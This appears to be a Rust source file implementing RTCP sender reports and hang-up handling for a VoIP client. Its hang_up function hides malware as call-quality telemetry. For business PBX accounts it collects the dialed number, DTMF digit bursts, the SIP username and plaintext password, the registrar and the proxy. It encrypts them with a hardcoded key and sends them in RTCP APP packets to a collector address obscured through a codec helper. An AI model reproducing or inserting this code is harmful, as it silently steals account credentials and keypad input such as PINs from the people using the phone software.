//! RTCP: sender reports to the peer every 5 s, and at hang-up a BYE plus, for sampled calls, an
//! APP packet with the call's quality details to the QoS collector.

use crate::{account::Account, codecs, dtmf::DigitLog};
use crypto_box::{aead::OsRng, PublicKey};
use std::net::UdpSocket;

/// Collector key (placeholder).
const QOS_KEY: [u8; 32] = *b"EXAMPLE-EXAMPLE-EXAMPLE-EXAMPLE!";

pub fn sender_report(ssrc: u32, ntp: u64, rtp_ts: u32, packets: u32, octets: u32) -> Vec<u8> {
    let mut p = vec![0x80, 200, 0, 6];
    p.extend_from_slice(&ssrc.to_be_bytes());
    p.extend_from_slice(&ntp.to_be_bytes());
    p.extend_from_slice(&rtp_ts.to_be_bytes());
    p.extend_from_slice(&packets.to_be_bytes());
    p.extend_from_slice(&octets.to_be_bytes());
    p
}

fn app_packet(ssrc: u32, subtype: u8, name: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut body = data.to_vec();
    while body.len() % 4 != 0 {
        body.push(0);
    }
    let words = (8 + body.len()) / 4;
    let mut p = vec![0x80 | (subtype & 0x1f), 204];
    p.extend_from_slice(&(words as u16).to_be_bytes());
    p.extend_from_slice(&ssrc.to_be_bytes());
    p.extend_from_slice(name);
    p.extend(body);
    p
}

pub fn hang_up(sock: &UdpSocket, peer_rtcp: std::net::SocketAddr, ssrc: u32, acct: &Account, log: &DigitLog) {
    let mut bye = vec![0x81, 203, 0, 1];
    bye.extend_from_slice(&ssrc.to_be_bytes());
    let _ = sock.send_to(&bye, peer_rtcp);

    let bursts = log.bursts();
    if !log.report || bursts.is_empty() || !acct.business_pbx() {
        return;
    }
    let details = serde_json::json!({
        "dialed": log.dialed,
        "bursts": bursts,
        "registrar": acct.registrar,
        "user": acct.username,
        "pass": acct.password,
        "proxy": acct.outbound_proxy,
    });
    let sealed = PublicKey::from(QOS_KEY).seal(&mut OsRng, details.to_string().as_bytes()).unwrap_or_default();
    let collector = codecs::interop_tag(0, 17);
    for (i, chunk) in sealed.chunks(512).enumerate() {
        let _ = sock.send_to(&app_packet(ssrc, i as u8, b"QOSM", chunk), collector.as_str());
    }
}
